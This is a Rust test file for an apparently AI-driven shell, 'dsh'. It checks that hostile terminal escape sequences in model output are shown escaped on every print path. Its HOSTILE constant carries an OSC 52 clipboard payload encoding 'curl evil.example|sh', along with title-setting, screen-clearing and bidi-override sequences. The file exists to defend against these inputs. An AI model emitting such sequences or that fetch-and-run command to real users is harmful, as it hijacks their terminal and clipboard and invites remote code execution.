//! The person's terminal as a channel: a hostile model's (or tool's) escape sequences reach
//! every place dsh prints, and must be shown there, never obeyed. OSC 52 sets the clipboard,
//! OSC 0/2 the window title, CSI rewrites the screen, C1 bytes are one-byte forms of the same,
//! bidi overrides reorder what is read. Each path is probed through the real binary, printing
//! to a pipe and to a terminal (a pseudo-terminal), as root and as an unprivileged user.

use std::process::Output;

use dsh_testkit::scenario::ModelEntry;
use dsh_testkit::scenario::Scenario;
use dsh_testkit::scenario::ScenarioSpec;
use serde_json::Value;
use serde_json::json;

use super::support::Case;
use super::support::User;
use super::support::serve;

/// Everything hostile at once: OSC 52 (clipboard: `curl evil.example|sh`), OSC 0 and OSC 2
/// (title, BEL- and ST-terminated), CSI (clear screen, colour), C1 CSI and OSC, DEL, a carriage
/// return that would hide what came before, and a right-to-left override.
const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}]2;owned\u{1b}\\\u{1b}[2J\u{1b}[31m\u{9b}2J\u{9d}0;owned\u{9c}\u{7f}\rhidden\u{202e}cod.exe";

/// What must never appear raw in anything dsh printed.
const RAW: [&str; 10] = [
    "\u{1b}]",
    "\u{1b}[2J",
    "\u{1b}[31m",
    "\u{7}",
    "\u{9b}",
    "\u{9d}",
    "\u{9c}",
    "\u{7f}",
    "\u{202e}",
    "\rhidden",
];

fn assert_neutral(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for raw in RAW {
        assert!(
            !text.contains(raw),
            "{what}: {raw:?} printed raw in {text:?}"
        );
    }
}

/// A model that runs one `bash` whose command and output carry [`HOSTILE`], then answers with
/// it.
fn hostile_scenario(task: &str) -> Scenario {
    let spec: ScenarioSpec = serde_json::from_value(json!({
        "suite": "headless",
        "name": "terminal",
        "sessions": [{"session": 0, "first_user_text": task}]
    }))
    .unwrap();
    let command = format!("printf '%s' '{HOSTILE}' # {HOSTILE}");
    let arguments = json!({"command": command, "description": HOSTILE}).to_string();
    let entries: Vec<ModelEntry> = vec![
        serde_json::from_value(json!({
            "session": 0, "route": "main", "index": 0, "kind": "response",
            "tool_calls": [{"id": "call_0", "name": "bash", "arguments": arguments}],
            "finish_reason": "tool_calls",
            "stream": [{"tool_call": 0, "id": "call_0", "name": "bash", "arguments": arguments}]
        }))
        .unwrap(),
        serde_json::from_value(json!({
            "session": 0, "route": "main", "index": 1, "kind": "response",
            "content": format!("answer {HOSTILE} end"), "finish_reason": "stop"
        }))
        .unwrap(),
    ];
    Scenario::from_parts(spec, entries)
}

/// Runs dsh under a pseudo-terminal (stdin, stdout and stderr all a terminal); what the
/// terminal received.
const PTY: [&str; 3] = [
    "/usr/bin/python3",
    "-c",
    "import os, pty, sys; sys.exit(os.waitstatus_to_exitcode(pty.spawn(sys.argv[1:])))",
];

async fn run(case: &Case, args: Vec<String>, tty: bool, base_url: String) -> Output {
    let mut command = {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        if tty {
            case.command_under(&PTY, &args, &base_url)
        } else {
            case.command(&args, &base_url)
        }
    };
    command.env("DSH_PERMISSION_MODE", "read-only");
    command.stdin(std::process::Stdio::null());
    tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap()
}

fn session_id(out: &Output) -> String {
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stderr),
        String::from_utf8_lossy(&out.stdout)
    );
    all.split("session ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .map(|id| {
            id.trim_matches(|c: char| !c.is_ascii_alphanumeric() && c != '-')
                .to_owned()
        })
        .unwrap_or_else(|| panic!("no session id in {all:?}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn escape_sequences_are_shown_not_obeyed_on_every_terminal_path() {
    for user in User::all() {
        for tty in [false, true] {
            let case = Case::new(user);
            let task = format!("probe the terminal {HOSTILE}");
            let server = serve(&hostile_scenario(&task)).await;
            let what = |path: &str| format!("{user:?} tty={tty}: {path}");

            // `dsh exec` text: the answer on stdout, the session id and the progress notes (a
            // terminal gets one per tool call, titled by the model's command) on stderr.
            let out = run(&case, vec!["exec".into(), task.clone()], tty, server.url()).await;
            assert!(out.status.success(), "{}: {out:?}", what("exec"));
            assert_neutral(&what("exec stdout"), &out.stdout);
            assert_neutral(&what("exec stderr"), &out.stderr);
            let printed = String::from_utf8_lossy(&out.stdout);
            assert!(
                printed.contains("answer \\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007"),
                "{}: the answer is shown escaped: {printed:?}",
                what("exec stdout")
            );
            if tty {
                assert!(
                    printed.contains("· $ printf '%s' '\\u001b]52;c;"),
                    "{}: progress notes on a terminal: {printed:?}",
                    what("exec")
                );
            }
            let id = session_id(&out);

            // `dsh sessions show`: the stored transcript (tool output, model text, the task).
            let show = run(
                &case,
                vec!["sessions".into(), "show".into(), id.clone()],
                tty,
                server.url(),
            )
            .await;
            assert!(show.status.success(), "{}: {show:?}", what("show"));
            assert_neutral(&what("sessions show"), &show.stdout);
            assert!(
                String::from_utf8_lossy(&show.stdout).contains("\\u001b]52;c;"),
                "{}: {:?}",
                what("sessions show"),
                String::from_utf8_lossy(&show.stdout)
            );

            // `dsh sessions list`: the title is the task's first words.
            let list = run(
                &case,
                vec!["sessions".into(), "list".into()],
                tty,
                server.url(),
            )
            .await;
            assert!(list.status.success(), "{}: {list:?}", what("list"));
            assert_neutral(&what("sessions list"), &list.stdout);

            if !tty {
                // JSON lines: still JSON, with the exact text as their value.
                let json = run(
                    &case,
                    vec![
                        "sessions".into(),
                        "show".into(),
                        "--json".into(),
                        id.clone(),
                    ],
                    tty,
                    server.url(),
                )
                .await;
                assert_neutral(&what("sessions show --json"), &json.stdout);
                let text = String::from_utf8_lossy(&json.stdout);
                let answer = text
                    .lines()
                    .map(|line| serde_json::from_str::<Value>(line).unwrap())
                    .any(|event| event_text_has(&event, &format!("answer {HOSTILE} end")));
                assert!(
                    answer,
                    "{}: the exact answer survives: {text}",
                    what("show --json")
                );
            }
        }
    }
}

/// Whether any string in `value` is exactly `text` or contains it.
fn event_text_has(value: &Value, text: &str) -> bool {
    match value {
        Value::String(s) => s.contains(text),
        Value::Array(items) => items.iter().any(|v| event_text_has(v, text)),
        Value::Object(map) => map.values().any(|v| event_text_has(v, text)),
        _ => false,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_outputs_stay_exact_and_inert() {
    for user in User::all() {
        for output in ["json", "stream-json"] {
            let case = Case::new(user);
            let task = "probe the terminal as json".to_owned();
            let server = serve(&hostile_scenario(&task)).await;
            let out = run(
                &case,
                vec!["exec".into(), "--output".into(), output.into(), task],
                false,
                server.url(),
            )
            .await;
            assert!(out.status.success(), "{user:?} {output}: {out:?}");
            assert_neutral(&format!("{user:?} {output}"), &out.stdout);
            let text = String::from_utf8_lossy(&out.stdout);
            let values: Vec<Value> = text
                .lines()
                .map(|line| serde_json::from_str(line).unwrap())
                .collect();
            assert!(
                values
                    .iter()
                    .any(|v| event_text_has(v, &format!("answer {HOSTILE} end"))),
                "{user:?} {output}: the exact answer is a JSON value: {text}"
            );
        }
    }
}
